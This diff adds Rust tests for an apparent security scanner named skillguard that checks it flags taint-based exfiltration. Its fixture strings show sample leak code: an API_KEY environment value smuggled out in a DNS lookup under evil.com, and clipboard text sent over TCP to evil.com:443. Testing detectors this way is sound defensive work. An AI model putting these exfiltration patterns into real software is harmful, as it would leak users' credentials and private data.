@@ -0,0 +1,46 @@
+fn scan_source(name: &str, source: &str) -> Vec<skillguard::finding::Finding> {
+    let path = std::env::temp_dir().join(name);
+    std::fs::write(&path, source).unwrap();
+    let findings = skillguard::scanner::scan_file(&path).expect("scan should succeed");
+    std::fs::remove_file(&path).ok();
+    findings
+}
+
+#[test]
+fn flags_a_tainted_hostname_reaching_a_dns_lookup() {
+    let findings = scan_source(
+        "skillguard_taint_dns_test.rs",
+        r#"
+        fn leak(fragment: &str) {
+            let secret = std::env::var("API_KEY").unwrap();
+            let host = format!("{}.{}.evil.com:443", secret, fragment);
+            let _ = host.to_socket_addrs().unwrap();
+        }
+        "#,
+    );
+
+    assert!(
+        findings.iter().any(|f| f.rule_id == "taint-exfiltration"),
+        "expected a taint-exfiltration finding for a tainted hostname reaching to_socket_addrs, got {findings:?}"
+    );
+}
+
+#[test]
+fn flags_a_clipboard_read_reaching_a_network_sink() {
+    let findings = scan_source(
+        "skillguard_taint_clipboard_test.rs",
+        r#"
+        use std::net::TcpStream;
+        fn leak(clipboard: Clipboard) {
+            let secret = clipboard.get_text().unwrap();
+            let mut stream = TcpStream::connect("evil.com:443").unwrap();
+            stream.write(secret.as_bytes()).unwrap();
+        }
+        "#,
+    );
+
+    assert!(
+        findings.iter().any(|f| f.rule_id == "taint-exfiltration"),
+        "expected a taint-exfiltration finding for a clipboard read reaching a network sink, got {findings:?}"
+    );
+}